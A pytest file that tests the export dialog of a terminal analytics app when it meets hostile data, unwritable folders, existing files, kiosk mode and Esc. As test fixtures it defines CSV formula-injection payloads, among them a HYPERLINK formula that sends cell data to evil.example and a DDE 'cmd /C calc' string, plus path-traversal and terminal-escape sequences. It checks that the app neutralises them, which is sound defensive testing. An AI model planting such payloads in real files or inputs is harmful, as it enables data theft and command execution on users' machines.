"""Ctrl+S when things are not friendly: a hostile site name and hostile values, a folder that
cannot be written, a file that is already there, kiosk mode, and Esc."""

from __future__ import annotations

import csv
import io
import json
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from textual.pilot import Pilot

from krafter_tui.app import KrafterApp
from krafter_tui.demo import DemoApp
from krafter_tui.screens.export_dialog import ExportDialog

from .conftest import settle
from .helpers import wait_until
from .test_export_keys import WAIT, export, toast_text

MakeApp = Callable[..., KrafterApp]
HOSTILE_SITE = '=HYPERLINK("http://evil.example/?x="&A1)/../../etc/\x1b]0;PWNED\x07passwd'
HOSTILE_PAGE = '=HYPERLINK("http://evil.example","click")'
HOSTILE_EVENT = "+cmd|' /C calc'!A0"


class HostileNames(httpx.AsyncBaseTransport):
    """The demo, with its first site renamed and a hostile page and event in its answers."""

    def __init__(self, demo: DemoApp) -> None:
        self.inner = httpx.ASGITransport(app=demo)

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        response = await self.inner.handle_async_request(request)
        await response.aread()
        if response.status_code != 200:
            return response
        body = json.loads(response.content)
        last = request.url.path.rsplit("/", 1)[-1]
        if last == "sites":
            body["data"][0]["name"] = HOSTILE_SITE
        elif last == "stats" and body["data"].get("breakdown"):
            row = {"value": HOSTILE_PAGE, "count": 10**9, "percent": 99.0}
            body["data"]["breakdown"]["path"].insert(0, row)
        elif last == "events":
            body["data"].insert(
                0, {"event_name": HOSTILE_EVENT, "total": 10**9, "unique_count": 1, "revenue": None}
            )
        headers = {k: v for k, v in response.headers.items() if k.lower() != "content-length"}
        return httpx.Response(200, headers=headers, content=json.dumps(body).encode())


async def run_export(app: KrafterApp, letters: str, folder: Path) -> list[Path]:
    """Run ``app``, export each of ``letters`` into ``folder``; the files written."""
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        return [await export(pilot, letter, folder, set(folder.glob("*"))) for letter in letters]


async def test_a_hostile_site_name_gives_a_safe_file_name_and_guarded_cells(
    make_app: MakeApp, demo: DemoApp, tmp_path: Path
) -> None:
    folder = tmp_path / "downloads"
    app = make_app(transport=HostileNames(demo))
    breakdown, events, shot = await run_export(app, "bes", folder)
    for path in (breakdown, events, shot):
        assert path.parent == folder  # nothing escaped the folder
        name = path.name
        assert name.isascii() and name.isprintable(), name
        assert "/" not in name and ".." not in name and len(name) < 120, name
        assert name.startswith("krafter-hyperlink-http-evil-example-x-a1-etc"), name
    assert sorted(folder.iterdir()) == sorted((breakdown, events, shot))
    rows = list(csv.reader(io.StringIO(breakdown.read_text())))
    assert rows[1] == ["'" + HOSTILE_PAGE, str(10**9), "99.0"]
    names = [row[0] for row in csv.reader(io.StringIO(events.read_text()))]
    assert names[1] == "'" + HOSTILE_EVENT
    # The escape sequence of the name reached neither the files nor the screenshot.
    for path in (breakdown, events, shot):
        assert "\x1b" not in path.read_text() and "\x07" not in path.read_text()


async def test_a_folder_that_cannot_be_made_says_so(make_app: MakeApp, tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    app = make_app(download_dir=str(blocker / "downloads"))
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        await press_export(pilot, "t")
        await wait_until(pilot, lambda: "Couldnotsave" in toast_text(app), WAIT, "a toast")
        text = toast_text(app)
    assert "Exportfailed" in text and str(blocker / "downloads").replace(" ", "") in text
    assert blocker.read_text() == "not a folder"


@pytest.mark.skipif(sys.platform != "linux", reason="/proc takes no new files on Linux only")
async def test_a_file_that_cannot_be_written_says_so(make_app: MakeApp) -> None:
    # The folder exists, but no file can be made in it (not even by root): Textual's
    # delivery fails on its thread and says so with DeliveryFailed.
    app = make_app(download_dir="/proc")
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        await press_export(pilot, "e")
        await wait_until(pilot, lambda: "Couldnotsave" in toast_text(app), WAIT, "a toast")
        text = toast_text(app)
    assert "Exportfailed" in text and "-events.csvin/proc" in text
    assert "Saved" not in text


async def test_a_second_export_does_not_overwrite_the_first(
    make_app: MakeApp, tmp_path: Path
) -> None:
    folder = tmp_path / "downloads"
    first, second = await run_export(make_app(), "TT", folder)
    assert second.name == first.name.removesuffix(".json") + "-2.json"
    assert first.read_text() == second.read_text()


async def test_esc_closes_the_dialog_without_saving(make_app: MakeApp, tmp_path: Path) -> None:
    app = make_app()
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        await pilot.press("ctrl+s")
        await wait_until(pilot, lambda: isinstance(app.screen, ExportDialog), WAIT, "dialog")
        await pilot.press("escape")
        await wait_until(pilot, lambda: not isinstance(app.screen, ExportDialog), WAIT, "gone")
        await pilot.pause(0.2)
    assert not (tmp_path / "downloads").exists()


async def test_kiosk_mode_saves_nothing(make_app: MakeApp, tmp_path: Path) -> None:
    app = make_app(kiosk=True, rotate_sites=3600.0)
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        await settle(pilot)
        for key in ("ctrl+s", "b", "s", "enter"):
            await pilot.press(key)
            await pilot.pause(0.1)
        assert not isinstance(app.screen, ExportDialog)
    assert not (tmp_path / "downloads").exists()


async def press_export(pilot: Pilot[Any], letter: str) -> None:
    """Ctrl+S, then ``letter`` in the dialog."""
    await pilot.press("ctrl+s")
    await wait_until(pilot, lambda: isinstance(pilot.app.screen, ExportDialog), WAIT, "dialog")
    await pilot.press(letter)
